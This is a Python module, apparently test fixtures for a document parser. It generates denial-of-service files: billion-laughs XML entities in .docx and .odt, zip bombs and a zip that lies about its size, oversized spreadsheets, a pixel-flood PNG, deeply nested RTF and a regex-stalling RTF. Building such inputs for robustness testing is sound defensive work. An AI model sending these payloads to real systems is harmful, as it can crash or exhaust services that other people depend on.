"""Files made to hang, crash or fill the memory of whoever opens them. Small on the wire, all of them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

GOOD_DOCX_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>'
)
_RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ฮ่าฮ่าฮ่าฮ่าฮ่า">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
"""Ten to the ninth laughs; ``&j;`` sets them off."""


def zipped(members: dict[str, str | bytes]) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return into.getvalue()


def docx_of(document: str) -> bytes:
    """A .docx whose document.xml is ``document``."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = GOOD_DOCX_TYPES.format(
        overrides=f'<Override PartName="/word/document.xml" ContentType="{kind}"/>'
    )
    relation = f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": _RELATIONS.format(relations=relation),
            "word/document.xml": document,
        }
    )


def laughing_docx() -> bytes:
    text = "<w:p><w:r><w:t>รายงานผลการดำเนินงาน ปี 2566 &j;</w:t></w:r></w:p>"
    return docx_of(f'<?xml version="1.0"?>{LAUGHS}<w:document {_W}><w:body>{text}</w:body></w:document>')


def deep_docx(depth: int = 5_000) -> bytes:
    """Tables in tables in tables."""
    opened, closed = "<w:tbl><w:tr><w:tc>" * depth, "</w:tc></w:tr></w:tbl>" * depth
    return docx_of(f"<w:document {_W}><w:body>{opened}<w:p/>{closed}</w:body></w:document>")


def swollen_docx(megabytes: int = 100) -> bytes:
    """One paragraph that unpacks to far more than it is on the wire."""
    text = "ก" * ((megabytes << 20) // 3)
    return docx_of(f"<w:document {_W}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>")


def xlsx_of(sheet: str) -> bytes:
    """An .xlsx with one sheet."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = GOOD_DOCX_TYPES.format(
        overrides=f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/>'
    )
    sheets = '<sheets><sheet name="แผน" sheetId="1" r:id="r1"/></sheets>'
    book = f'<workbook {_S} xmlns:r="{_OFFICE}">{sheets}</workbook>'
    to_book = f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
    to_sheet = f'<Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": _RELATIONS.format(relations=to_book),
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": _RELATIONS.format(relations=to_sheet),
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def _cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def wide_xlsx() -> bytes:
    """A title, and a stray cell in the last row and column there is: 17 thousand million cells between."""
    title = _cell("A1", "แผนการจัดหาพัสดุ ปีงบประมาณ พ.ศ. 2566")
    rows = f'<row r="1">{title}</row><row r="1048576">{_cell("XFD1048576", "x")}</row>'
    return xlsx_of(
        f'<worksheet {_S}><dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>'
    )


def long_xlsx(rows: int = 1_000_000) -> bytes:
    """A million rows."""
    title = _cell("A1", "สรุปผลการจัดซื้อจัดจ้าง ปีงบประมาณ พ.ศ. 2566")
    body = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, rows + 1))
    return xlsx_of(f'<worksheet {_S}><sheetData><row r="1">{title}</row>{body}</sheetData></worksheet>')


def open_document(kind: str, content: str) -> bytes:
    """An OpenDocument file (text, spreadsheet, presentation) with ``content`` as its content.xml."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        mime = f"application/vnd.oasis.opendocument.{kind}"
        archive.writestr(zipfile.ZipInfo("mimetype"), mime)
        archive.writestr("META-INF/manifest.xml", f"<manifest><file media-type='{mime}'/></manifest>")
        archive.writestr("content.xml", content)
    return into.getvalue()


_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
)


def odt_of(body: str, *, doctype: str = "") -> bytes:
    return open_document(
        "text",
        f'<?xml version="1.0"?>{doctype}<office:document-content {_ODF}><office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>",
    )


def laughing_odt() -> bytes:
    return odt_of("<text:p>รายงานผลการดำเนินงาน ปี 2566 &j;</text:p>", doctype=LAUGHS)


def repeating_ods() -> bytes:
    """One cell, repeated in every column of every row there can be."""
    cell = (
        '<table:table-cell office:value-type="string" table:number-columns-repeated="16384">'
        "<text:p>แผน</text:p></table:table-cell>"
    )
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    return open_document(
        "spreadsheet",
        f'<office:document-content {_ODF}><office:body><office:spreadsheet><table:table table:name="a">{row}'
        "</table:table></office:spreadsheet></office:body></office:document-content>",
    )


def zip_bomb(megabytes: int = 400) -> bytes:
    """Zeros, far more than a zip of documents unpacks to."""
    one = bytes(megabytes << 18)
    return zipped({f"{n}.pdf": one for n in range(4)})


def lying_zip() -> bytes:
    """A member that claims a hundred bytes and has ten megabytes."""
    honest = zipped({"a.txt": b"x" * (10 << 20)})
    return honest.replace(struct.pack("<I", 10 << 20), struct.pack("<I", 100))


def crowded_zip(members: int = 50_000) -> bytes:
    """So many members that a list of them is a document of its own."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        for n in range(members):
            archive.writestr(zipfile.ZipInfo(f"{n}.txt"), b"")
    return into.getvalue()


def huge_png() -> bytes:
    """A picture of ten thousand million points, in sixty bytes."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + header
        + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    )


def braces_rtf(depth: int = 1_000_000) -> bytes:
    """Groups in groups, none of which is closed."""
    return b"{\\rtf1\\ansi\\ansicpg874 " + b"{" * depth


def linked_rtf(links: int = 30_000) -> bytes:
    """Links without end on one line: a pattern that looks for each to the end of the line never ends."""
    return b"{\\rtf1\\ansi\\ansicpg874 " + b"{\\field{\\*\\fldinst{ HYPERLINK }}" * links + b"}"


def locked_package() -> bytes:
    """What Office makes of a .docx with a password ([MS-OFFCRYPTO] 2.3.4)."""
    free, end, fat_sector = 0xFFFF_FFFF, 0xFFFF_FFFE, 0xFFFF_FFFD
    sizes = struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    places = struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + sizes + places
    header += struct.pack("<109I", 0, *[free] * 108)
    table = struct.pack("<128I", fat_sector, end, *[free] * 126)

    def entry(name: str, kind: int, child: int) -> bytes:
        raw = name.encode("utf-16-le")
        rest = (len(raw) + 2, kind, 1, free, free, child, 0, end, 0)
        return raw.ljust(64, b"\0") + struct.pack("<HBBIII16xI8x8xIQ", *rest)

    return header + table + entry("Root Entry", 5, 1) + entry("EncryptedPackage", 2, free) + bytes(256)


def broken_doc() -> bytes:
    """The first bytes of a .doc, and nothing that they promise."""
    directory = "WordDocument".encode("utf-16-le").ljust(128, b"\0")
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(22) + struct.pack("<H", 9) + bytes(16)
    return header.ljust(512, b"\0") + directory * 64


ALL = {
    "zip bomb": zip_bomb,
    "zip that lies of its size": lying_zip,
    "zip of 50,000 members": crowded_zip,
    "docx, 100 MB of one letter": swollen_docx,
    "docx, entities within entities": laughing_docx,
    "docx, 5,000 tables in each other": deep_docx,
    "xlsx, a cell in the last place": wide_xlsx,
    "xlsx, a million rows": long_xlsx,
    "ods, 17 thousand million cells": repeating_ods,
    "odt, entities within entities": laughing_odt,
    "png, ten thousand million points": huge_png,
    "rtf, a million groups": braces_rtf,
    "rtf, links on one line": linked_rtf,
    "doc without content": broken_doc,
}
